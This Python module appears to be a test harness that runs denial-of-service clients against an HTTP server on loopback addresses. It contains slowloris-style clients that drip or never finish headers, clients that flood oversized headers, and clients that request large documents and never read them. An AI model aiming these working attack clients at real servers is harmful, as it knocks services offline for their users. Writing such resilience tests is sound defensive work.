"""Those who attack: connections that say nothing, that say one byte at a time, that never end their headers, and that
ask for much and read nothing of it."""

import asyncio
import contextlib
import socket
from multiprocessing.synchronize import Event
from types import TracebackType
from typing import Self
from urllib.parse import urlsplit

_PIECE = b"a" * 64 * 1024
_ASKED = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 20
_RECEIVED = 4096
"""Bytes that the system of a client that does not read takes for it."""
_ADDRESSES = 16
"""Source addresses, all of the loopback network: one address may not have all connections."""


class Crowd:
    """Holds connections open inside the block."""

    def __init__(self, host: str, port: int, *, slow: int, header_bytes: int, pourers: int = 32, mute: int = 0) -> None:
        self._place = host, port
        self._slow = slow
        self._header_bytes = header_bytes
        self._pourers = pourers
        self._mute = mute
        self._tasks: list[asyncio.Task[None]] = []
        self.opened = 0
        self.poured = 0
        """Bytes of headers that were sent."""
        self.asked = 0
        """Connections whose responses are not read."""

    async def __aenter__(self) -> Self:
        each = self._header_bytes // self._pourers
        self._tasks = [asyncio.create_task(self._linger(number)) for number in range(self._slow)]
        self._tasks += [asyncio.create_task(self._pour(number, each)) for number in range(self._pourers)]
        self._tasks += [asyncio.create_task(self._ignore(number)) for number in range(self._mute)]
        return self

    async def __aexit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def all_poured(self) -> None:
        await asyncio.gather(*self._tasks[self._slow : self._slow + self._pourers])

    async def _linger(self, number: int) -> None:
        """Every other client is silent, the others send a byte now and then; a client that is dropped comes back."""
        head = b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX: "
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await self._connect(number)
                try:
                    for byte in head if number % 2 else b"":
                        writer.write(bytes([byte]))
                        await asyncio.sleep(1.0)
                    await reader.read()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.5)

    async def _pour(self, number: int, size: int) -> None:
        """Send so many bytes of headers, on as many connections as it takes."""
        left = size
        while left > 0:
            with contextlib.suppress(OSError):
                _, writer = await self._connect(number)
                try:
                    writer.write(b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX: ")
                    while left > 0 and not writer.transport.is_closing():
                        writer.write(_PIECE)
                        left -= len(_PIECE)
                        self.poured += len(_PIECE)
                        await writer.drain()
                        await asyncio.sleep(0)
                finally:
                    writer.transport.abort()

    async def _ignore(self, number: int) -> None:
        """Ask for large documents and read nothing; a client that is dropped comes back."""
        loop = asyncio.get_running_loop()
        while True:
            with contextlib.suppress(OSError), socket.socket() as made:
                made.setblocking(False)
                made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVED)
                made.bind((_source(number), 0))
                await loop.sock_connect(made, self._place)
                self.opened += 1
                await loop.sock_sendall(made, _ASKED)
                self.asked += 1
                while True:
                    await asyncio.sleep(1.0)
                    await loop.sock_sendall(made, b"\r\n")  # fails once the connection was dropped
            await asyncio.sleep(0.5)

    async def _connect(self, number: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        found = await asyncio.open_connection(*self._place, local_addr=(_source(number), 0))
        self.opened += 1
        return found


def _source(number: int) -> str:
    return f"127.0.1.{1 + number % _ADDRESSES}"


def attackers(url: str, connections: int, mute: int, header_bytes: int, seconds: float, begun: Event) -> None:
    """A process of its own."""
    asyncio.run(_attack(url, connections, mute, header_bytes, seconds, begun))


async def _attack(url: str, connections: int, mute: int, header_bytes: int, seconds: float, begun: Event) -> None:
    place = urlsplit(url)
    host, port = place.hostname or "", place.port or 0
    async with Crowd(host, port, slow=connections, mute=mute, header_bytes=header_bytes) as crowd:
        await asyncio.sleep(1.0)
        begun.set()
        await asyncio.gather(crowd.all_poured(), asyncio.sleep(seconds + 2))
    print(
        f"attackers opened {crowd.opened:,} connections, sent {crowd.poured / 1e6:.0f} MB of headers,"
        f" and read nothing on {crowd.asked:,}"
    )
